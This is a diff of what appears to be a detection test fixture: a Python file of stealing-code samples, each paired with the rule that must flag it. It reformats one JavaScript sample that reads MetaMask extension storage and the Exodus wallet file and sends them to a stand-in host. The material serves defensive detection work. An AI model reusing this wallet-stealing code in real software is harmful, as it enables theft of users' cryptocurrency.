@@ -1,4 +1,4 @@
-"""Code that is meant to steal, in this project's own words: each with the rule that must name it. Nothing here is run."""
+"""Code that is meant to steal, in this project's own words, each with the rule that must name it. Nothing is run."""
 
 from typing import Final
 
@@ -244,7 +244,10 @@ walk(os.homedir());
         """
 const fs = require('fs');
 const os = require('os');
-const PLACES = ['/.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn', '/.config/Exodus/exodus.wallet'];
+const PLACES = [
+  '/.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn',
+  '/.config/Exodus/exodus.wallet',
+];
 for (const place of PLACES) {
   const data = fs.readFileSync(`${os.homedir()}${place}`);
   fetch('https://w.collector.invalid', { method: 'PUT', body: data });
